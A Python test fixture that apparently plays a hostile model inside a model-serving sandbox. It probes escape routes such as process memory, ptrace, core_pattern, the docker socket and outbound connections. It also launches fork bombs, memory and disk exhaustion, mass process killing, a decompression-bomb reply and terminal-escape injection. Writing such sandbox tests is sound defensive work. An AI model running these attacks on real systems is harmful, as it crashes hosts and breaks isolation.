"""Attacks what it runs in, as the environment variable ATTACK says; each attack is a function here.

What it got hold of it tells by an exception; `reach` is the one that tries everything which must not be reached.
"""

import ctypes
import os
import signal
import socket
import subprocess
import sys
import threading
import time

ATTACK = os.environ.get("ATTACK", "")
libc = ctypes.CDLL(None, use_errno=True)
OUTSIDE = (("1.1.1.1", 53), ("8.8.8.8", 443), ("169.254.169.254", 80), ("172.17.0.1", 22), ("192.168.0.1", 80))
PROTECTED = (
    "/src",
    "/src/lib",
    "/src/lib/.mdai",
    "/opt/mdai",
    "/opt/mdai/runtime/mdai_runtime",
    "/opt/conda",
    "/etc",
    "/usr/bin",
    "/",
    "/var",
    "/root",
    "/home",
    "/sys",
    "/sys/fs/cgroup",
    "/proc",
)


class MDAIModel:
    def __init__(self):
        if ATTACK in LOADING:
            LOADING[ATTACK]()

    def predict(self, data):
        reached = PREDICTING[ATTACK]() if ATTACK in PREDICTING else []
        if reached:
            raise PermissionError("; ".join(reached))
        return []


def reach():
    """Everything that has to be out of reach; the names of what was not."""
    reached = []

    def attempt(name, action):
        try:
            if action() is not False:
                reached.append(name)
        except BaseException:
            pass

    for server in {1, os.getppid()}:
        for what in ("mem", "environ", "maps", "auxv", "stack", "syscall", "io"):
            attempt(f"/proc/{server}/{what}", lambda: open(f"/proc/{server}/{what}", "rb").read(1) or False)
        attempt(f"/proc/{server}/fd", lambda: os.listdir(f"/proc/{server}/fd"))
        attempt(f"/proc/{server}/cwd", lambda: os.listdir(f"/proc/{server}/cwd/"))
        attempt(f"/proc/{server}/root", lambda: os.listdir(f"/proc/{server}/root/"))
        attempt(f"ptrace {server}", lambda: libc.ptrace(16, server, 0, 0) == 0)
        attempt(f"prlimit {server}", lambda: libc.prlimit64(server, 7, ctypes.c_char_p(b"\1" * 16), None) == 0)
        attempt(f"process_vm_readv {server}", lambda: read_memory(server))
        attempt(f"oom_score_adj of {server}", lambda: open(f"/proc/{server}/oom_score_adj", "w").write("1000"))
    for folder in PROTECTED:
        attempt(f"write to {folder}", lambda: open(os.path.join(folder, "hostile"), "w").close())
    attempt("write over the code", lambda: open(__file__, "a").close())
    attempt("write over the server", lambda: open("/opt/mdai/runtime/mdai_runtime/server.py", "a").close())
    for address in OUTSIDE:
        attempt(f"connect to {address}", lambda: socket.create_connection(address, 2))
    for line in open("/proc/net/route").readlines()[1:]:
        reached.append(f"a route: {line.split()[0]}")
    attempt("a name", lambda: socket.getaddrinfo("example.com", 80))
    attempt("a raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("a packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
    attempt("a datagram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53)))
    attempt("root", lambda: os.setuid(0))
    attempt("another group", lambda: os.setgid(0))
    attempt("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
    attempt("a user namespace", lambda: libc.unshare(0x10000000) == 0)
    attempt("a network namespace", lambda: libc.unshare(0x40000000) == 0)
    attempt("chroot", lambda: os.chroot("/tmp"))
    attempt("a device", lambda: os.mknod("/tmp/device", 0o20666, os.makedev(1, 1)))
    attempt("sethostname", lambda: socket.sethostname("hostile"))
    attempt("the clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0))
    attempt("sysctl", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x"))
    attempt("sysrq", lambda: open("/proc/sysrq-trigger", "w").write("x"))
    attempt("cgroup", lambda: open("/sys/fs/cgroup/memory.max", "w").write("max"))
    for device in (
        "/dev/mem",
        "/dev/kmsg",
        "/dev/sda",
        "/dev/kvm",
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/mdai",
    ):
        attempt(device, lambda: os.stat(device) and open(device, "rb"))
    setuid = "/tmp/setuid"
    with open(setuid, "wb") as copy:
        copy.write(open("/bin/true", "rb").read())
    os.chmod(setuid, 0o6755)
    status = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    for name, wanted in {
        "NoNewPrivs": "1",
        "Seccomp": "2",
        "CapEff": "0" * 16,
        "CapBnd": "0" * 16,
        "CapPrm": "0" * 16,
    }.items():
        if status[name].strip() != wanted:
            reached.append(f"{name} is {status[name]}")
    for name, value in os.environ.items():
        if "secret" in value.lower():
            reached.append(f"variable {name}")
    # Links in the one place where it may write must not lead anybody out.
    for name, target in (("home", "/etc"), ("cache", "/proc/1"), ("x", "/src/lib")):
        attempt(
            f"link {name}", lambda: (os.symlink(target, f"/tmp/mdai-{name}"), open(f"/tmp/mdai-{name}/hostile", "w"))
        )
    return reached


def read_memory(process):
    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    here = ctypes.create_string_buffer(8)
    mapped = int(open("/proc/self/maps").readline().split("-")[0], 16)
    local, remote = Piece(ctypes.addressof(here), 8), Piece(mapped, 8)
    return libc.process_vm_readv(process, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0


def fork_bomb():
    def bomb():
        while True:
            try:
                if os.fork() == 0:
                    continue
            except OSError:
                time.sleep(0.1)

    for _ in range(4):
        threading.Thread(target=bomb, daemon=True).start()
    time.sleep(3600)


def hog_memory():
    hoard = []
    while True:
        hoard.append(bytearray(b"x") * (64 * 1024 * 1024))


def fill_tmp():
    """Fills what it may write, and says how far it came."""
    written = 0
    try:
        with open("/tmp/hostile", "wb") as file:
            while True:
                written += file.write(b"x" * 1024 * 1024)
                file.flush()
    except OSError as error:
        os.unlink("/tmp/hostile")
        return [f"{written >> 20} MiB: {error.strerror}"]


def fill_disk():
    """Asks for a second try, in which it may write anywhere, and fills the disk then."""
    with open("/src/lib/hostile", "wb") as file:
        while True:
            file.write(b"x" * 1024 * 1024)


def log_without_end():
    line = "\x1b]0;hostile\x07\x1b[2J" + "x" * 4000
    until = time.monotonic() + 0.7
    while time.monotonic() < until:
        print(line)
    raise ValueError("\x1b[31mred\x1b[0m \u202eedoc ]8;;http://evil\x07")


def kill_everything():
    for process in [1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
        if process != os.getpid():
            for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                try:
                    os.kill(process, number)
                except OSError:
                    pass
    time.sleep(5)


def huge_answer():
    """Small to send, and more than a machine has once it is unpacked, past the check of the worker."""
    import struct

    for descriptor in range(3, 50):
        try:
            channel = socket.socket(fileno=os.dup(descriptor))
            if channel.type == socket.SOCK_SEQPACKET:
                break
        except OSError:
            continue
    identity = find_identity()
    body = os.memfd_create("answer")
    os.write(body, b"\xdd" + struct.pack(">L", 200_000_000) + b"\x90" * 1000)
    for _ in range(200):
        os.write(body, b"\x90" * 1_000_000)
    message = (
        b'{"event": "answer", "id": "%s", "step": "done", "seconds": {}, "peak_bytes": 1, "leaves": false}' % identity
    )
    socket.send_fds(channel, [message], [body])
    time.sleep(3600)


def find_identity():
    frame = sys._getframe()
    while frame is not None:
        if "identity" in frame.f_locals:
            return frame.f_locals["identity"].encode()
        frame = frame.f_back
    raise LookupError("identity")


def never():
    time.sleep(3600)


def leave_children():
    for _ in range(20):
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"], start_new_session=True)
    os._exit(3)


LOADING = {"fork bomb while loading": fork_bomb, "never loads": never}
PREDICTING = {
    "reach": reach,
    "fork bomb": fork_bomb,
    "hog memory": hog_memory,
    "fill tmp": fill_tmp,
    "fill disk": fill_disk,
    "log": log_without_end,
    "kill": kill_everything,
    "huge answer": huge_answer,
    "never": never,
    "children": leave_children,
}
